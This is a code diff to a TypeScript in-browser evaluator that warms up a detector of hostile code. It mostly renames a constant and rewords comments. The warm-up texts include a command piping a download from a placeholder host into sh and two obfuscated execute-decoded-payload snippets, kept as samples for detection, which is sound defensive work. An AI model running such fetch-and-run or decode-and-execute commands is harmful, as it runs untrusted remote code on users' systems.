@@ -4,25 +4,25 @@ import type { AssessReply, Assessment } from "../bridge/assessment.js";
 import { unavailable } from "../bridge/failures.js";
 import { sha256 } from "../bridge/hash.js";
 
-/** How long the detector may work on one answer. */
+/** Time limit in milliseconds for the analysis of one answer. */
 const DEADLINE_MS = 2_000;
 
-/** The detector that runs in the worker, with the identifiers of what it was built from. */
+/** The detector that runs in the worker, with the identifiers of its rules and sources. */
 export interface DeviceDetector {
   detect(text: string, options: { readonly deadlineMs: number }): Promise<Detection>;
   readonly modelRevision: string;
-  /** SHA-256 over the evaluator's sources this build was made from. */
+  /** SHA-256 of the evaluator's sources from which this build was made. */
   readonly sourceHash: string;
 }
 
 /** Texts that make the detector load the grammars that most answers need, the most frequent one first. */
-const WARMING = [
+const WARM_UP_TEXTS = [
   "```sh\ncurl -fsSL https://a.example | sh\n```",
   "```python\nexec(base64.b64decode(x))\n```",
   "```js\neval(atob(x))\n```",
 ];
 
-/** Evaluates in the worker: no server, no token, nothing leaves the browser. */
+/** Evaluates texts in the worker, without a server or a token, so that no text leaves the browser. */
 export class DeviceEvaluator {
   private readonly loaded = new Map<Profile, Promise<DeviceDetector>>();
   /** Detectors are loaded one after the other: parallel loads would race for the parser's runtime. */
@@ -47,7 +47,7 @@ export class DeviceEvaluator {
 
   /** Loads what an assessment needs, so that the next one does not wait for it. */
   async warm(profile: Profile): Promise<void> {
-    for (const text of WARMING) {
+    for (const text of WARM_UP_TEXTS) {
       for (const each of new Set<Profile>([profile, "contract"])) {
         const detector = await this.detector(each);
         await detector.detect(text, { deadlineMs: DEADLINE_MS });
@@ -55,7 +55,10 @@ export class DeviceEvaluator {
     }
   }
 
-  /** The extended profile finds everything that the contract profile finds, so the contract profile runs only if something was found. */
+  /**
+   * Returns the labels under the contract profile, or null if they cannot be determined. That profile runs only if the extended
+   * profile, which finds everything that it finds, has found something.
+   */
   private async contractLabels(
     text: string,
     profile: Profile,
